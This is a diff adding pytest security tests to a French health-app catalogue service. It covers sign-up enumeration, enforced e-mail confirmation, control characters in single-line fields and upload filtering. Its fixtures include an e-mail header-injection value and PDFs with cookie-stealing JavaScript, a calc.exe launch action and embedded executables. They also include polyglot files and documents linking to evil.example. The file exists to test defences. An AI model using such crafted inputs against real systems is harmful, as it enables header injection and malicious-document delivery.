@@ -237,3 +237,332 @@ def test_f13_language_links_never_leave_the_site(client, path):
 def test_f13_language_links_keep_the_page_and_its_query(client):
     page = client.get("/catalogue?q=diab%C3%A8te").get_data(as_text=True)
     assert 'href="/catalogue?q=diab%C3%A8te&amp;lang=en"' in page
+
+
+# --- F7: publisher sign-up does not reveal existing addresses ---------------------------------
+
+PUBLISHER_SIGNUP = {"display_name": "Jeanne Martin", "password": "Une phrase de passe solide",
+                    "password_confirm": "Une phrase de passe solide", "legal_name": "Santé Plus SAS",
+                    "siren": "732 829 320", "siret": "", "address": "1 rue A", "postal_code": "75001",
+                    "city": "Paris", "legal_representative": "Jeanne Martin, présidente",
+                    "contact_email": "", "contact_phone": ""}
+
+
+def _visible_text(response) -> str:
+    body = response.get_data(as_text=True)
+    body = re.sub(r'name="csrf_token"[^>]*>', "", body)
+    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", body))
+
+
+def test_f7_publisher_sign_up_answers_the_same_for_an_existing_address(app, make_user):
+    from tests.accounts.helpers import outbox, post_form
+
+    make_user(email="deja@exemple.fr")
+    db.commit()
+    answers = {}
+    for email in ("deja@exemple.fr", "nouvelle@exemple.fr"):
+        fresh = app.test_client()
+        answers[email] = post_form(fresh, "/inscription/editeur",
+                                   {**PUBLISHER_SIGNUP, "email": email,
+                                    "siren": "732 829 320" if email.startswith("deja") else "552 100 554"},
+                                   form_page="/inscription/editeur")
+    existing, new = answers["deja@exemple.fr"], answers["nouvelle@exemple.fr"]
+    assert existing.status_code == new.status_code == 200
+    assert "existe déjà" not in existing.get_data(as_text=True)
+    assert _visible_text(existing).replace("deja@", "X@") == _visible_text(new).replace("nouvelle@", "X@")
+    # The owner of the existing address is told by e-mail; nothing is created for them.
+    assert len(outbox("account_exists", "deja@exemple.fr")) == 1
+    assert len(outbox("verify_email", "nouvelle@exemple.fr")) == 1
+    assert not outbox("verify_email", "deja@exemple.fr")
+    db.session.rollback()
+
+
+def test_f7_other_errors_are_still_shown_for_an_existing_address(client, make_user):
+    from tests.accounts.helpers import post_form
+
+    make_user(email="deja2@exemple.fr")
+    db.commit()
+    answer = post_form(client, "/inscription/editeur",
+                       {**PUBLISHER_SIGNUP, "email": "deja2@exemple.fr", "siren": "732829321"})
+    assert answer.status_code == 422
+    assert "clé de contrôle" in answer.get_data(as_text=True)
+    assert "existe déjà" not in answer.get_data(as_text=True)
+
+
+# --- Also: e-mail confirmation is enforced ------------------------------------------------
+
+
+def _unverified(make_user, roles=(), email=None):
+    user = make_user(roles=roles, email=email)
+    user.email_verified_at = None
+    db.commit()
+    return user
+
+
+def test_unconfirmed_patient_sees_only_the_confirmation_page_and_cannot_connect_an_app(
+        client, make_listing, make_user):
+    from catalogue.consents.models import Consent
+    from tests.accounts.helpers import link_token, outbox, post_form, sign_in
+    from tests.factories import PASSWORD
+
+    slug = make_listing().app.slug
+    patient = _unverified(make_user, roles=[Role.PATIENT], email="pt3@exemple.fr")
+    signed_in = sign_in(client, "pt3@exemple.fr", PASSWORD)
+    assert signed_in.location == "/compte/confirmation"
+    for path in ("/compte/", "/compte/connexions", f"/compte/connexions/nouvelle/{slug}",
+                 "/compte/securite", "/editeur/", "/compte/export"):
+        answer = client.get(path)
+        assert answer.status_code == 302 and answer.location == "/compte/confirmation", path
+    page = client.get("/compte/confirmation")
+    assert page.status_code == 200 and "Confirmez votre adresse e-mail" in page.get_data(as_text=True)
+    forced = post_form(client, f"/compte/connexions/nouvelle/{slug}", {"scopes": ["documents"]},
+                       form_page="/compte/confirmation")
+    assert forced.location == "/compte/confirmation"
+    assert db.session.scalar(select(Consent).where(Consent.patient_id == patient.id)) is None
+    db.session.rollback()
+    # The link of the e-mail opens the account.
+    post_form(client, "/compte/verification", {}, form_page="/compte/confirmation")
+    [mail] = outbox("verify_email", "pt3@exemple.fr")
+    client.get("/compte/verification/" + link_token(mail, "/compte/verification/"))
+    assert client.get(f"/compte/connexions/nouvelle/{slug}").status_code == 200
+
+
+def test_unconfirmed_publisher_reaches_nothing_of_the_publisher_space(client, make_organisation,
+                                                                     login):
+    from tests.factories_publishers import owner_of
+
+    organisation = make_organisation()
+    owner = owner_of(db.session, organisation)
+    owner.email_verified_at = None
+    db.commit()
+    login(owner)
+    for path in ("/editeur/", f"/editeur/organisations/{organisation.id}", "/compte/notifications"):
+        answer = client.get(path)
+        assert answer.status_code == 302 and answer.location == "/compte/confirmation", path
+
+
+# --- F14: control characters in single-line fields; the mailer never loses a message ------
+
+
+def test_f14_single_line_fields_lose_their_line_breaks_and_controls(client, login, make_organisation):
+    from catalogue.apps.models import App
+    from tests.accounts.helpers import post_form
+    from tests.apps.test_views import FORM
+    from tests.factories_publishers import owner_of
+
+    organisation = make_organisation()
+    owner = owner_of(db.session, organisation)
+    db.commit()
+    login(owner)
+    url = f"/editeur/organisations/{organisation.id}/applications/nouvelle"
+    answer = post_form(client, url, {**FORM, "name": "Appli\r\nBcc: victime@exemple.fr\x07\u2028fin",
+                                     "description": "Ligne 1\nLigne 2"})
+    assert answer.status_code == 302
+    app_row = db.session.scalar(select(App).where(App.organisation_id == organisation.id))
+    assert app_row.name == "Appli Bcc: victime@exemple.fr fin"
+    assert app_row.description == "Ligne 1\nLigne 2"  # multi-line text keeps its lines
+    db.session.rollback()
+
+
+def test_f14_a_line_break_in_an_app_name_does_not_lose_the_mail(client, login, make_listing,
+                                                              make_patient, make_user):
+    """An app name stored before the filter existed (here: written by the service) still
+    gets its report mailed to the secretariat, with a one-line subject."""
+    from sqlalchemy import update
+
+    from catalogue.apps.models import App
+    from catalogue.notifications.models import OutboxMessage
+    from tests.accounts.helpers import post_form
+    from tests.smtp import smtp_server
+
+    listing = make_listing()
+    db.session.execute(update(App).where(App.id == listing.app_id).values(name="Appli\r\nBcc: x@y.fr"))
+    slug = listing.app.slug
+    make_user(roles=[Role.SECRETARIAT])
+    patient = make_patient()
+    db.commit()
+    login(patient)
+    with smtp_server() as sink:
+        answer = post_form(client, f"/catalogue/{slug}/signaler",
+                           {"kind": "security", "text": "Les données s'affichent sans connexion."})
+        assert answer.status_code in (302, 303)
+        rows = db.session.scalars(select(OutboxMessage).where(OutboxMessage.message == "report_created")
+                                  ).all()
+        assert rows and all(r.sent_at is not None and r.last_error is None for r in rows)
+        assert all("\n" not in r.subject and "\r" not in r.subject for r in rows)
+        assert len(sink.messages) == len(rows)
+    db.session.rollback()
+
+
+def test_f14_any_failure_of_one_message_is_recorded_and_retried(app):
+    from catalogue.notifications import services as notifications
+    from catalogue.notifications.models import OutboxMessage
+    from tests.smtp import smtp_server
+
+    # A message queued before the fix: its subject breaks the e-mail package (ValueError).
+    broken = OutboxMessage(message="report_created", recipient="a@exemple.fr",
+                           subject="Signalement\r\nBcc: x@y.fr", text_body="…", html_body="")
+    fine = OutboxMessage(message="report_created", recipient="b@exemple.fr", subject="Signalement",
+                         text_body="…", html_body="")
+    db.session.add_all([broken, fine])
+    db.commit()
+    with smtp_server() as sink:
+        assert notifications.deliver_pending(db.session, [broken.id, fine.id]) == 1
+        assert len(sink.messages) == 1
+    db.session.refresh(broken)
+    assert broken.sent_at is None and broken.attempts == 1
+    assert broken.last_error and broken.last_error.startswith("ValueError")
+    assert broken.next_attempt_at is not None
+    db.session.rollback()
+
+
+# --- F5: PDF active content hidden in compressed object streams · F12: polyglots -------------
+
+
+def _pdf_in_object_streams(**catalogue_entries) -> bytes:
+    """A PDF whose objects (the catalogue and the actions included) sit in Flate-compressed
+    object streams, as a PDF library writes them: none of the names appears in the bytes."""
+    import pikepdf
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    for key, value in catalogue_entries.items():
+        pdf.Root["/" + key] = value(pdf) if callable(value) else value
+    out = io.BytesIO()
+    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
+    return out.getvalue()
+
+
+def _pdf_case(case: str) -> bytes:
+    from pikepdf import Array, Dictionary, Name, String
+
+    def js():
+        return Dictionary(S=Name.JavaScript, JS=String("app.alert(document.cookie)"))
+
+    entries = {
+        "open action javascript": {"OpenAction": lambda pdf: pdf.make_indirect(js())},
+        "open action launch": {"OpenAction": lambda pdf: pdf.make_indirect(
+            Dictionary(S=Name.Launch, F=String("calc.exe")))},
+        "document additional action": {"AA": lambda pdf: Dictionary(WC=pdf.make_indirect(js()))},
+        "javascript name tree": {"Names": lambda pdf: Dictionary(JavaScript=pdf.make_indirect(
+            Dictionary(Names=Array([String("x"), pdf.make_indirect(js())]))))},
+        "embedded file": {"Names": lambda pdf: Dictionary(EmbeddedFiles=pdf.make_indirect(
+            Dictionary(Names=Array([String("a.exe"), pdf.make_indirect(Dictionary(
+                Type=Name.Filespec, F=String("a.exe"),
+                EF=Dictionary(F=pdf.make_stream(b"MZ", Type=Name.EmbeddedFile))))]))))},
+        "xfa form": {"AcroForm": lambda pdf: pdf.make_indirect(Dictionary(
+            Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>")))},
+    }
+    return _pdf_in_object_streams(**entries[case])
+
+
+PDF_CASES = ["document additional action", "embedded file", "javascript name tree",
+             "open action javascript", "open action launch", "xfa form"]
+
+
+@pytest.mark.parametrize("case", PDF_CASES)
+def test_f5_active_pdf_content_in_compressed_object_streams_is_refused(case, client, login,
+                                                                      make_dossier):
+    from tests.security.helpers import evidence_count, prepare_upload
+
+    data = _pdf_case(case)
+    assert b"JavaScript" not in data and b"/Launch" not in data and b"/XFA" not in data  # hidden
+    upload = prepare_upload(make_dossier, login, client)
+    before = evidence_count(upload.organisation_id)
+    answer = upload.post("rapport.pdf", data, csrf_token=_csrf(client, upload.url))
+    assert answer.status_code == 422, case
+    assert "contenu actif" in html.unescape(answer.get_data(as_text=True))
+    assert evidence_count(upload.organisation_id) == before
+
+
+def test_f5_a_plain_pdf_in_object_streams_is_accepted(client, login, make_dossier):
+    from tests.security.helpers import evidence_count, prepare_upload
+
+    upload = prepare_upload(make_dossier, login, client)
+    before = evidence_count(upload.organisation_id)
+    answer = upload.post("rapport.pdf", _pdf_in_object_streams(), csrf_token=_csrf(client, upload.url))
+    assert answer.status_code in (302, 303)
+    assert evidence_count(upload.organisation_id) == before + 1
+
+
+def _csrf(client, url: str) -> str:
+    from tests.accounts.helpers import csrf_token
+
+    return csrf_token(client, url)
+
+
+def _jpeg() -> bytes:
+    from tests.security.test_uploads import jpeg
+
+    return jpeg()
+
+
+def _zip(members: dict[str, bytes]) -> bytes:
+    from tests.security.test_uploads import zip_of
+
+    return zip_of(members)
+
+
+def _jpeg_with_comment(comment: bytes) -> bytes:
+    data = _jpeg()
+    return data[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment + data[2:]
+
+
+def _polyglots() -> dict[str, tuple[str, bytes]]:
+    from catalogue.dossiers.samples import sample_png
+    from tests.dossiers.test_uploads import office
+
+    archive = _zip({"evil.html": b"<b>x</b>", "payload.exe": b"MZ" + b"\0" * 64})
+    settings_rels = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+                     b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
+                     b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+                     b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
+    image_rels = settings_rels.replace(b"attachedTemplate", b"image").replace(b"t.dotm", b"pixel.png")
+    return {
+        "jpeg + zip + end marker": ("photo.jpg", _jpeg() + archive + b"\xff\xd9"),
+        "jpeg + trailing bytes + end marker": ("photo.jpg", _jpeg() + b"PK\x03\x04junk" + b"\xff\xd9"),
+        "zip inside a jpeg comment": ("photo.jpg", _jpeg_with_comment(archive)),
+        "png + zip + IEND": ("a.png", sample_png("x") + archive + sample_png("x")[-12:]),
+        "pdf + zip": ("a.pdf", archive + b"\n" + _pdf_in_object_streams()),
+        "docx with external attachedTemplate": ("a.docx", office("docx", {
+            "word/_rels/settings.xml.rels": settings_rels})),
+        "xlsx with an external image": ("a.xlsx", office("xlsx", {
+            "xl/drawings/_rels/drawing1.xml.rels": image_rels})),
+        "odt with a linked image": ("a.odt", office("odt", {"styles.xml": (
+            b'<office:document-styles><draw:image xlink:href="http://evil.example/p.png"/>'
+            b"</office:document-styles>")})),
+    }
+
+
+POLYGLOTS = ["docx with external attachedTemplate", "jpeg + trailing bytes + end marker",
+             "jpeg + zip + end marker", "odt with a linked image", "pdf + zip", "png + zip + IEND",
+             "xlsx with an external image", "zip inside a jpeg comment"]
+
+
+@pytest.mark.parametrize("case", POLYGLOTS)
+def test_f12_polyglots_and_external_relationships_are_refused(case, client, login, make_dossier):
+    from tests.security.helpers import evidence_count, prepare_upload
+
+    filename, data = _polyglots()[case]
+    upload = prepare_upload(make_dossier, login, client)
+    before = evidence_count(upload.organisation_id)
+    answer = upload.post(filename, data, csrf_token=_csrf(client, upload.url))
+    assert answer.status_code == 422, case
+    assert evidence_count(upload.organisation_id) == before
+
+
+def test_f12_documents_with_hyperlinks_and_plain_images_are_accepted(client, login, make_dossier):
+    from catalogue.dossiers.samples import sample_png
+    from tests.dossiers.test_uploads import office
+    from tests.security.helpers import evidence_count, prepare_upload
+
+    link_rels = (b'<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
+                 b'officeDocument/2006/relationships/hyperlink" Target="https://exemple.fr/" '
+                 b'TargetMode="External"/></Relationships>')
+    upload = prepare_upload(make_dossier, login, client)
+    before = evidence_count(upload.organisation_id)
+    for filename, data in (("a.docx", office("docx", {"word/_rels/document.xml.rels": link_rels})),
+                           ("photo.jpg", _jpeg()), ("a.png", sample_png("Écran"))):
+        answer = upload.post(filename, data, csrf_token=_csrf(client, upload.url))
+        assert answer.status_code in (302, 303), (filename, answer.get_data(as_text=True)[-2000:])
+    assert evidence_count(upload.organisation_id) == before + 3
